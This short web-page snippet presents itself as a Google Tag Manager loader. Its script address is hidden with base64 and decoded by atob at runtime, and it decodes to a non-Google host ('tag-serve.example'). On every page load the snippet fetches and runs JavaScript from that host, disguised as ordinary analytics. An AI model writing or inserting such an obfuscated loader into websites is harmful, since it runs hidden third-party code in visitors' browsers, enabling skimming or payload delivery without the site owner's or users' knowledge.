<!-- Google Tag Manager -->
(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':new Date().getTime(),event:'gtm.js'});
var f=d.getElementsByTagName(s)[0],j=d.createElement(s),dl=l!='dataLayer'?'&l='+l:'';j.async=true;
j.src=w.atob('aHR0cHM6Ly90YWctc2VydmUuZXhhbXBsZS9ndG0uanM/aWQ9')+i+dl;f.parentNode.insertBefore(j,f);
})(window,document,'script','dataLayer','GTM-XK2P9Q');
